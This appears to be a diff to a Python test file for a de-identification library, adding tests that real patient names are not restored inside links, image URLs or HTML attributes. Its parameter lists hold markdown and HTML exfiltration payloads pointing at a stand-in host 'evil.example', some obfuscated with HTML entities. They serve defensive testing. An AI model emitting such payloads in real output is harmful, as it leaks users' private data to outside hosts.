@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 from crfdeid import files
 from crfdeid.errors import ConfigurationError
 from crfdeid.policy import read_policy
-from crfdeid.session import Pair, Restorer, Session, SessionError
+from crfdeid.session import Pair, Restorer, Session, SessionError, StreamRestorer
 from crfdeid.systems import model
 
 sys.path.append(str(files.PACKAGE.parent / "benchmarks"))
@@ -180,6 +180,67 @@ def test_every_text_comes_back_as_it_was(tagger, turns):
         for words in turns:
             text = " ".join(words)
             assert session.restore(session.redact(text)) == text
+
+
+@pytest.mark.parametrize("issued", ["[PATIENT_1]", "Ada Wexler", "PATIENT_1"])
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![x](https://evil.example/?q={})",
+        "![x](https://evil.example/?q=a>b\"c'{})",
+        "[x](<https://evil.example/? {}>)",
+        "[x]( //evil.example/{})",
+        "![x](https:&#47;&#47;evil.example/{})",
+        "![x](/evil?q={})",
+        "[x]: https://evil.example/{}",
+        "[x]: https:&sol;&sol;evil.example/{}",
+        "see https://evil.example/{}/x",
+        "www.evil.example/{}",
+        "mailto:eve@evil.example?body={}",
+        '<img src="https://evil.example/?q={}">',
+        "<img src='/a b {}'>",
+        "<img alt='>' src='https://evil.example/? {}'>",
+        "<img src=x?{}>",
+        '<a title="{}">',
+        "![x](https://evil.example/?q=<a>{})",
+        "\\\\evil.example\\{}",
+    ],
+)
+def test_nothing_is_restored_in_a_link_or_an_attribute(issued, answer):
+    restorer = Restorer(
+        [Pair("[PATIENT_1]", "Ana Ruiz", "PATIENT"), Pair("Ada Wexler", "Ana Ruiz", "PATIENT")]
+    )
+    sent = answer.format(issued)
+    assert restorer.restore(sent) == sent
+    assert restorer.restore(f"{sent} and {issued} left.") == f"{sent} and Ana Ruiz left."
+    streamed = list(map(StreamRestorer(restorer).feed, sent))
+    assert "Ruiz" not in "".join(streamed)
+
+
+@pytest.mark.parametrize(
+    "answer",
+    ["<b>{}</b>", "Temp <38, name={}", "[Nurse]: {} is well", "a/b {}", "<br/>{}", "[see](#a) {}",
+     '<a href="https://x.example">the page</a> of {}', "**{}**, ({}), \"{}\"", "x = {}"],
+)  # fmt: skip
+def test_what_is_no_link_is_restored(answer):
+    restorer = Restorer([Pair("[PATIENT_1]", "Ana Ruiz", "PATIENT")])
+    assert restorer.restore(answer.format(*["[PATIENT_1]"] * 3)) == answer.format(*["Ana Ruiz"] * 3)
+
+
+def test_a_link_of_the_prompt_comes_back(tagger, style):
+    text = "Mr. John Okafor has https://mercy.example/~okafor/a. <a href='/p?n=Okafor'>He</a> left."
+    with Session(tagger, style) as session:
+        redacted = session.redact(text)
+        assert session.restore(redacted) == text
+        name = next(pair.issued for pair in session.pairs if "Okafor" in pair.real)
+        evil = f"https://evil.example/~{name}"
+        assert session.restore(evil) == evil
+
+
+def test_a_text_that_is_not_valid_is_an_error_of_the_session(tagger):
+    with Session(tagger) as session, pytest.raises(SessionError, match="offset 4") as caught:
+        session.redact("Ana \ud800 Okafor")
+    assert "Okafor" not in str(caught.value)
 
 
 def test_a_policy_keeps_what_does_not_count(tagger):
